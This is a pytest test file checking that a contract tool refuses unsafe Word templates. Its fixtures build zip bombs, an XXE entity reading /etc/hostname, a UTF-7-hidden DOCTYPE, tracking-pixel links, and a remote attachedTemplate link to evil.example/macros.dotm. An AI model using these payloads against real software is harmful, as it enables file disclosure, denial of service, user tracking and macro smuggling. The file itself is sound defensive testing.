"""Word templates from outside: a zip bomb, XML that declares entities, links
that make Word fetch from the network, each refused with a message naming
the template and the part, before anything is unpacked; and no contract is
written that cannot be opened again. (The templates folder is a temporary
one: see conftest.py.)"""

from __future__ import annotations

import io
import re
import struct
import zipfile
from pathlib import Path

import pytest
from example_paths import US_EXAMPLE

import wizard.cli
from wizard.core import docx_guard
from wizard.core.docx_guard import (
    MAX_ENTRIES,
    UnsafeDocumentError,
    ensure_contract_opens,
    read_template_file,
    safe_template_bytes,
)
from wizard.core.project_file import load_project
from wizard.core.render import render_contract
from wizard.core.template_check import check_template
from wizard.core.template_library import add_template, templates_folder
from wizard.paths import standard_template

DOCUMENT = "word/document.xml"
CORE = "docProps/core.xml"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
MB = 1024 * 1024
EXTERNAL_IMAGE = ('<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                  'officeDocument/2006/relationships/image" Target="{target}" '
                  'TargetMode="External"/>')


def standard_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(standard_template()) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def build(path: Path, parts: dict[str, bytes], level: int = 6) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def changed(path: Path, **edits: bytes) -> Path:
    """The standard template with some parts replaced (``word__document_xml``
    names ``word/document.xml``)."""
    parts = standard_parts()
    for key, data in edits.items():
        parts[key.replace("__", "/").replace("_xml", ".xml").replace("_rels", ".rels")] = data
    return build(path, parts)


def with_relationship(parts: dict[str, bytes], rels: str, relationship: str) -> None:
    parts[rels] = parts[rels].replace(b"</Relationships>",
                                      relationship.encode() + b"</Relationships>")


def refusal(path: Path) -> str:
    """The one error the template check gives for ``path``."""
    problems = check_template(path)
    errors = [p.message for p in problems if p.severity == "error"]
    assert len(errors) == 1, errors
    return errors[0]


def generate(template: Path, tmp_path: Path) -> tuple[int, str, Path]:
    out, err = io.StringIO(), io.StringIO()
    target = tmp_path / "contract.docx"
    status = wizard.cli.main(["generate", str(US_EXAMPLE), "--template", str(template),
                              "-o", str(target)], out=out, err=err)
    return status, err.getvalue(), target


def assert_refused_by_generate(template: Path, tmp_path: Path, *words: str) -> None:
    """``generate`` fails in one line naming the problem, and writes nothing."""
    status, err, target = generate(template, tmp_path)
    assert status == 2, err
    assert "unexpected" not in err
    assert len(err.strip().splitlines()) == 1, err
    for word in words:
        assert word in err
    assert not target.exists()


# --------------------------------------------------------------------------- zip bombs


def bomb(path: Path, size: int) -> Path:
    """The standard template whose body unpacks to ``size`` bytes (a few
    tens of kilobytes packed)."""
    parts = standard_parts()
    body = parts[DOCUMENT]
    padding = b" " * (size - len(body))
    parts[DOCUMENT] = body.replace(b"</w:body>", padding + b"</w:body>")
    return build(path, parts, level=9)


def test_a_zip_bomb_is_refused_from_the_zip_directory(tmp_path: Path) -> None:
    """A 100 KB template whose body unpacks to 50 MB took half a minute to check
    (and as much memory as it liked); now it is refused, naming the part and
    both sizes, before a byte is unpacked."""
    template = bomb(tmp_path / "bomb.docx", 50 * MB)
    assert template.stat().st_size < 200 * 1024
    message = refusal(template)
    assert message == ('The template "bomb.docx" is not safe to open: word/document.xml '
                       "would be 50 MB when unpacked (the limit is 20 MB).")
    assert_refused_by_generate(template, tmp_path, "bomb.docx", DOCUMENT, "50 MB")


def test_a_part_packed_a_thousand_times_is_refused_though_under_the_size_limit(
        tmp_path: Path) -> None:
    """A part under the size limit but packed as tightly as a zip bomb is one."""
    message = refusal(bomb(tmp_path / "dense.docx", 15 * MB))
    assert "word/document.xml would unpack to" in message
    assert "the limit is 100 times" in message


def test_a_directory_that_understates_a_part_does_not_let_it_unpack(tmp_path: Path) -> None:
    """The zip's directory can lie: a part declared 2 KB that inflates to 30 MB
    is stopped while it is read, not trusted."""
    data = bytearray(bomb(tmp_path / "liar.docx", 30 * MB).read_bytes())
    name = DOCUMENT.encode()
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        for match in re.finditer(re.escape(signature), data):
            start = match.start()
            if data[start + name_at:start + name_at + len(name)] == name:
                struct.pack_into("<I", data, start + size_at, 2048)
    liar = tmp_path / "liar.docx"
    liar.write_bytes(bytes(data))
    with zipfile.ZipFile(liar) as archive:
        assert archive.getinfo(DOCUMENT).file_size == 2048
    assert refusal(liar) == ('The template "liar.docx" is not a Word document (.docx) that '
                             "can be read.")


def test_a_template_of_too_many_parts_is_refused(tmp_path: Path) -> None:
    parts = standard_parts()
    for number in range(MAX_ENTRIES):
        parts[f"word/media/extra{number}.bin"] = b"x"
    message = refusal(build(tmp_path / "many.docx", parts))
    assert f"the limit is {MAX_ENTRIES:,}".replace(",", "") in message.replace(",", "")
    assert "many.docx" in message


def test_bzip2_packing_is_refused(tmp_path: Path) -> None:
    """Word packs with deflate; bzip2 packs a bomb far tighter still."""
    parts = standard_parts()
    path = tmp_path / "bz.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert "is packed in a way Word does not use" in refusal(path)


# --------------------------------------------------------------------------- DTDs and entities

XXE_CORE = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<!DOCTYPE cp:coreProperties [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
            b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
            b'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            b"<dc:title>&xxe;</dc:title></cp:coreProperties>")


def test_an_entity_in_the_document_properties_is_refused(tmp_path: Path) -> None:
    """An external entity in docProps/core.xml made a contract python-docx could
    not open again, while generate said it was written."""
    template = changed(tmp_path / "xxe.docx", docProps__core_xml=XXE_CORE)
    message = refusal(template)
    assert message.startswith('The template "xxe.docx" is not safe to open: docProps/core.xml '
                              "declares a document type or entities")
    assert_refused_by_generate(template, tmp_path, "xxe.docx", CORE)


def test_a_dtd_in_the_body_is_refused(tmp_path: Path) -> None:
    parts = standard_parts()
    body = parts[DOCUMENT]
    declaration = b'<!DOCTYPE w:document [<!ENTITY lol "lol">]>'
    parts[DOCUMENT] = body.replace(b"?>", b"?>" + declaration, 1)
    message = refusal(build(tmp_path / "dtd.docx", parts))
    assert "word/document.xml declares a document type or entities" in message


def test_a_dtd_in_utf16_is_found(tmp_path: Path) -> None:
    """Written in UTF-16, the declaration is not the bytes "<!DOCTYPE"."""
    text = XXE_CORE.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    template = changed(tmp_path / "wide.docx", docProps__core_xml=text.encode("utf-16"))
    assert "docProps/core.xml declares a document type" in refusal(template)


def test_xml_in_another_encoding_is_refused(tmp_path: Path) -> None:
    """UTF-7 could hide a declaration as "+ADw-!DOCTYPE"; the packaging allows
    UTF-8 and UTF-16 only."""
    text = XXE_CORE.decode().replace('encoding="UTF-8"', 'encoding="UTF-7"')
    text = text.replace("<!DOCTYPE", "+ADw-!DOCTYPE").replace("<!ENTITY", "+ADw-!ENTITY")
    template = changed(tmp_path / "utf7.docx", docProps__core_xml=text.encode())
    assert "docProps/core.xml is not written in UTF-8 or UTF-16" in refusal(template)


# --------------------------------------------------------------------------- links out


@pytest.mark.parametrize("target", ["http://tracker.example/pixel.png",
                                    "file:///C:/Users/Public/logo.png",
                                    "\\\\fileserver\\share\\logo.png"])
def test_a_picture_linked_from_outside_is_refused(tmp_path: Path, target: str) -> None:
    """A picture linked (not inserted) makes Word fetch it when the contract is
    opened: the customer's address goes to whoever runs the server."""
    parts = standard_parts()
    with_relationship(parts, DOCUMENT_RELS, EXTERNAL_IMAGE.format(target=target))
    template = build(tmp_path / "linked.docx", parts)
    message = refusal(template)
    assert message.startswith('The template "linked.docx" is not safe to open: '
                              f"word/document.xml links to “{target}” outside the document")
    assert "“image”" in message
    assert_refused_by_generate(template, tmp_path, "linked.docx", target)


def test_a_picture_linked_from_a_header_is_refused(tmp_path: Path) -> None:
    parts = standard_parts()
    header = next(name for name in parts if re.fullmatch(r"word/header\d*\.xml", name))
    rels = header.replace("word/", "word/_rels/") + ".rels"
    parts.setdefault(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                           b'<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                           b'2006/relationships"></Relationships>')
    with_relationship(parts, rels, EXTERNAL_IMAGE.format(target="http://x.example/a.png"))
    assert f"{header} links to “http://x.example/a.png”" in refusal(
        build(tmp_path / "header.docx", parts))


def test_a_field_that_fetches_a_picture_is_refused(tmp_path: Path) -> None:
    """INCLUDEPICTURE fetches an address each time Word updates the field."""
    parts = standard_parts()
    field = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
             b'xml:space="preserve"> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE '
             b'"http://tracker.example/p.png" \\d </w:instrText></w:r><w:r><w:fldChar '
             b'w:fldCharType="end"/></w:r></w:p>')
    parts[DOCUMENT] = parts[DOCUMENT].replace(b"<w:body>", b"<w:body>" + field, 1)
    message = refusal(build(tmp_path / "field.docx", parts))
    assert "word/document.xml has a field “INCLUDEPICTURE”" in message
    assert "http://tracker.example/p.png" in message


def test_a_hyperlink_stays(tmp_path: Path) -> None:
    """A hyperlink is text a reader may click, never fetched by itself: a
    template with one (the provider's web site) is fine, and the contract
    keeps it."""
    parts = standard_parts()
    with_relationship(parts, DOCUMENT_RELS,
                      '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/'
                      'officeDocument/2006/relationships/hyperlink" '
                      'Target="https://provider.example/" TargetMode="External"/>')
    template = build(tmp_path / "link.docx", parts)
    assert check_template(template) == []
    contract = render_contract(load_project(US_EXAMPLE), template=template)
    with zipfile.ZipFile(io.BytesIO(contract)) as archive:
        assert b"https://provider.example/" in archive.read(DOCUMENT_RELS)


def test_the_link_to_the_template_a_document_was_made_from_is_removed(tmp_path: Path) -> None:
    """Word writes a link to the .dotx a document was based on, and fetches it
    on opening (a known way to smuggle macros in): the template is accepted,
    and neither the link nor the setting that uses it reaches the contract."""
    parts = standard_parts()
    settings_rels = "word/_rels/settings.xml.rels"
    parts[settings_rels] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/macros.dotm" '
        b'TargetMode="External"/></Relationships>')
    settings = parts["word/settings.xml"]
    if b"xmlns:r=" not in settings.split(b">", 2)[1]:
        settings = settings.replace(
            b"<w:settings ", b'<w:settings xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships" ', 1)
    parts["word/settings.xml"] = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate '
                                        rb'r:id="rId1"/>', settings, count=1)
    template = build(tmp_path / "based-on-dotx.docx", parts)
    assert check_template(template) == []
    contract = render_contract(load_project(US_EXAMPLE), template=template)
    with zipfile.ZipFile(io.BytesIO(contract)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"evil.example" not in everything
    assert b"attachedTemplate" not in everything


# --------------------------------------------------------------------------- the library


def test_an_unsafe_template_is_not_added_to_the_library(tmp_path: Path) -> None:
    """Adding a template reads it as rendering does: a bomb never reaches the
    templates folder."""
    template = bomb(tmp_path / "bomb.docx", 50 * MB)
    with pytest.raises(UnsafeDocumentError, match=r"word/document.xml would be 50 MB"):
        add_template(template)
    assert not (templates_folder() / "bomb.docx").exists()


def test_a_safe_template_is_added_as_read(tmp_path: Path) -> None:
    source = changed(tmp_path / "Mine.docx")
    added = add_template(source)
    assert added.path.read_bytes() == source.read_bytes()


def test_the_standard_template_passes_unchanged() -> None:
    data = standard_template().read_bytes()
    assert safe_template_bytes(data, "standard.docx") is data
    assert read_template_file(standard_template()) == data


def test_a_template_too_large_to_read_is_refused_unread(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docx_guard, "MAX_FILE_BYTES", 1024)
    with pytest.raises(OSError, match="larger than 1 KB"):
        read_template_file(standard_template())


# --------------------------------------------------------------------------- the contract


def test_a_contract_that_cannot_be_opened_again_is_not_written() -> None:
    """What the XXE template made: a contract whose properties name an entity
    no longer declared. It is refused, never reported as written."""
    parts = standard_parts()
    parts[CORE] = XXE_CORE.replace(
        b'<!DOCTYPE cp:coreProperties [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n', b"")
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    written = re.escape('The contract "out.docx" was not written')
    with pytest.raises(UnsafeDocumentError, match=written):
        ensure_contract_opens(data.getvalue(), "out.docx")
    ensure_contract_opens(render_contract(load_project(US_EXAMPLE)), "fine.docx")
